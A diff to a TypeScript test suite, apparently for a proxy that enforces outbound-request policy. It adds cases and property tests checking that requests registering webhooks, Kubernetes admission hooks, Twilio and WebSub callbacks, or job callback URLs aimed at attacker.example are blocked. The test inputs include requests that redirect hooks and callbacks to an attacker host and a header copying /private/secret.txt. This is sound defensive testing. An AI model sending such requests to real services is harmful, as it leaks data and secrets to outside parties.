@@ -237,13 +237,16 @@ const dav = await startUpstream(t, {
     // Webhooks and change subscriptions (GitHub/GitLab hooks, Stripe webhook endpoints, Kubernetes
     // admission webhooks, Microsoft Graph subscriptions, Twilio's status callbacks): the service
     // sends to the URL registered, later and on its own.
-    if (req.method === 'POST' && /\/(?:hooks|webhook_endpoints|validatingwebhookconfigurations|subscriptions|Messages\.json)$/.test(src)) {
+    // (GitHub's `PATCH …/hooks/{id}/config` moves a hook; a job API takes its callback in the query; WebSub's hub.callback.)
+    if ((req.method === 'POST' || req.method === 'PATCH') && /\/(?:hooks|webhook_endpoints|validatingwebhookconfigurations|subscriptions|Messages\.json|config|jobs|hub)$/.test(src)) {
       const form = String(req.headers['content-type']).startsWith('application/x-www-form-urlencoded');
       const walk = (v: unknown, key = ''): void => {
-        if (typeof v === 'string' && /^(?:url|notificationurl|lifecyclenotificationurl|statuscallback)$/i.test(key)) sentTo.push(v);
+        // (A job API here calls back whatever URL it is given, under any name.)
+        if (typeof v === 'string' && (/^(?:url|notificationurl|lifecyclenotificationurl|statuscallback|callback_url|hub\.callback)$/i.test(key) || (src.endsWith('/jobs') && /^https?:/.test(v)))) sentTo.push(v);
         else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) walk(x, k);
       };
-      walk(form ? Object.fromEntries(new URLSearchParams(body.toString())) : JSON.parse(body.toString()));
+      walk(Object.fromEntries(new URL(req.url ?? '/', 'http://x').searchParams));
+      if (body.length) walk(form ? Object.fromEntries(new URLSearchParams(body.toString())) : JSON.parse(body.toString()));
       return void res.writeHead(201, { 'content-length': 0 }).end();
     }
     // Stored scripts, which a reindex or an ingest pipeline runs by id.
@@ -1158,6 +1161,9 @@ t.test('property: a configuration that has the server send elsewhere later (buck
     ['GET', '/%3C%7Bnow%7D%3E/_search', '', ''],
     ['POST', '/ok/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations', json, JSON.stringify({ webhooks: [{ name: 'x.example', clientConfig: { url: 'https://attacker.example/admit' }, rules: [{ operations: ['CREATE'], resources: ['secrets'] }] }] })],
     ['POST', '/ok/2010-04-01/Accounts/AC1/Messages.json', 'application/x-www-form-urlencoded', 'To=%2B15550100&Body=hi&StatusCallback=https%3A%2F%2Fattacker.example%2Fsms'],
+    ['PATCH', '/ok/repos/a/b/hooks/1/config', json, JSON.stringify({ url: 'https://attacker.example/moved', content_type: 'json' })],
+    ['POST', '/ok/v1/jobs?callback_url=https%3A%2F%2Fattacker.example%2Fdone', json, JSON.stringify({ input: 'x' })],
+    ['POST', '/ok/hub', 'application/x-www-form-urlencoded', 'hub.mode=subscribe&hub.topic=https%3A%2F%2Fallowed.example%2Ffeed&hub.callback=https%3A%2F%2Fattacker.example%2Fwebsub'],
     ['POST', '/_reindex', json, JSON.stringify({ source: { index: 'ok' }, dest: { index: 'ok2' }, script: { id: 'route' } })],
     ['PUT', '/_ingest/pipeline/stored', json, JSON.stringify({ processors: [{ script: { id: 'route' } }] })],
     ['PUT', '/v1.0/AUTH_a/ok/obj', '', '', 'X-Copy-From: /private/secret.txt\r\n'],
@@ -1183,6 +1189,26 @@ t.test('property: a configuration that has the server send elsewhere later (buck
   t.notOk(esRan.slice(before[1]).some((r) => / deny/.test(r)), 'no stored script sent a document into a denied index, no date math reached one');
   t.same(swiftRan.slice(before[2]), [], 'the Swift server read nothing the policy denies');
   t.notOk(batchRan.slice(ran).some((c) => c.includes('/deny')), 'no batch call behind path parameters ran under /deny');
+  // The callback members by property: spelling (camel, snake, kebab, upper, WebSub's dotted name) ×
+  // placement (JSON, nested JSON, urlencoded form, PHP-nested form name, query) × forward or tunnel.
+  await fc.assert(fc.asyncProperty(
+    fc.record({
+      key: fc.constantFrom('notificationUrl', 'lifecycleNotificationUrl', 'callback_url', 'CallbackURL', 'statusCallback', 'StatusCallbackUrl', 'webhook-url', 'WEBHOOKURL', 'hub.callback', 'notify_url', 'endpointUrl', 'payload_url'),
+      place: fc.constantFrom('json', 'nested', 'form', 'bracket', 'query'),
+      tunnel: fc.boolean(),
+    }),
+    async ({ key, place, tunnel }) => {
+      const to = 'https://attacker.example/cb';
+      const sent = sentTo.length;
+      const [method, path, type, body] = place === 'json' ? ['POST', '/ok/v1/jobs', json, JSON.stringify({ input: 'x', [key]: to })]
+        : place === 'nested' ? ['PUT', '/ok/v1/jobs', json, JSON.stringify({ input: 'x', options: [{ delivery: { [key]: to } }] })]
+        : place === 'form' ? ['POST', '/ok/v1/jobs', 'application/x-www-form-urlencoded', `input=x&${encodeURIComponent(key)}=${encodeURIComponent(to)}`]
+        : place === 'bracket' ? ['POST', '/ok/v1/jobs', 'application/x-www-form-urlencoded', `input=x&options%5B${encodeURIComponent(key)}%5D=${encodeURIComponent(to)}`]
+        : ['POST', `/ok/v1/jobs?${encodeURIComponent(key)}=${encodeURIComponent(to)}`, json, '{"input":"x"}'];
+      const [res] = parseResponses(await send(method, path, type, body, tunnel));
+      return res?.status === 403 && isProblem(res) && sentTo.length === sent;
+    },
+  ), { numRuns: Math.min(numRuns, 12), ...seed });
 });
 
 t.test('property: a registry blob mount from another repository is decided as a read of that repository\'s blob', async (t) => {
